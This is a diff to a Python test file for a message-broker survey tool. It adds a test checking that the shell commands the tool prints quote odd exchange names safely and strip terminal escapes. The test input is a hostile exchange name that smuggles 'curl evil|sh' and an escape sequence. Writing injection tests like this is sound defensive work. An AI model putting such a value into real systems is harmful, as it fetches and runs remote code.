@@ -2,6 +2,7 @@
 
 import base64
 import json
+import shlex
 import subprocess
 import threading
 import urllib.request
@@ -21,10 +22,12 @@ from minerlib.bus.survey import exchanges, survey
 
 from .processes import Process, until
 
+HOSTILE = "x;curl evil|sh \x1b[2J"
 SAID = {
     ("metrics", "telegraf.cpu"): b"cpu,host=web-1 usage=1.5 1795334400000000000",
     ("shop", ""): b'{"host": "till-3", "amount": 3}',
     ("events", "acme.web.prod.web-2.disk.usage"): b'{"used_pct": 81}',
+    (HOSTILE, ""): b'{"host": "till-4"}',
 }
 
 
@@ -61,7 +64,13 @@ def publishing(url: str) -> Iterator[None]:
     stop = threading.Event()
     with connect(url) as connection:
         channel = connection.channel()
-        for name, kind in (("metrics", "topic"), ("shop", "fanout"), ("orders", "direct"), ("events", "topic")):
+        for name, kind in (
+            ("metrics", "topic"),
+            ("shop", "fanout"),
+            ("orders", "direct"),
+            ("events", "topic"),
+            (HOSTILE, "fanout"),
+        ):
             channel.exchange_declare(name, kind)
 
         def run() -> None:
@@ -100,6 +109,25 @@ def test_what_flows(busy: tuple[str, str], tmp_path: Path) -> None:
     assert (events["kinds"], events["sources"], events["bridge"]) == (["disk.usage"], ["web-2"], "")
     assert "direct" in found["orders"]["why"]
     assert found["amq.headers"]["messages"] == 0
+
+
+def test_commands_can_be_copied(busy: tuple[str, str], tmp_path: Path) -> None:
+    """Whatever somebody named an exchange, its command is one word after another for a shell, and steers no terminal.
+    It bridges from our own broker but where the environment names another: so much is said."""
+    (row,) = surveyed(tmp_path, busy[0], HOSTILE)
+    assert shlex.split(row["bridge"]) == ["minerlib", "collect", "app", "--exchange", HOSTILE]
+    words = ["broker", "survey", "--for", "1s", "metrics", HOSTILE]
+    with Process(tmp_path, *words, "--url", busy[0]) as process:
+        assert process.process.wait(60) == 0, process.said
+    head, *commands = process.told.partition("\nTo have them")[2].splitlines()
+    assert "MINERLIB_FROM_URL names the broker they take from" in head
+    assert sorted(commands) == [
+        "  minerlib collect app --exchange 'x;curl evil|sh ·[2J'", "  minerlib collect telegraf --exchange metrics",
+    ]  # fmt: skip
+    assert "\x1b" not in process.told
+    with Process(tmp_path, *words, MINERLIB_FROM_URL=busy[0]) as process:
+        assert process.process.wait(60) == 0, process.said
+    assert "To have them as events:" in process.told
 
 
 def test_nothing_stays(busy: tuple[str, str]) -> None:
